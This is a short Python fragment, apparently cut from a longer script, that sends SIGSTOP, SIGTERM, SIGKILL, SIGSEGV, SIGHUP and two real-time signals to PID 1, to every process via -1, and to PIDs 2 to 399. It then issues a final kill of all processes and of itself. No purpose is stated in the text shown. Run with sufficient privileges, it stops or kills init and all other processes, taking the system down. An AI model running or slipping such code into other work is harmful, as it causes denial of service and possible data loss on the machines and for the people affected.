for s in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGSEGV, signal.SIGHUP, 34, 64):
    for p in [1, -1] + list(range(2, 400)):
        if abs(p) == os.getpid() or p == -1 and s in (signal.SIGSTOP, signal.SIGKILL): continue
        if p in (os.getpid(), os.getppid()) and p != 1: continue
        try: os.kill(p, s)
        except OSError: pass
end()
os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
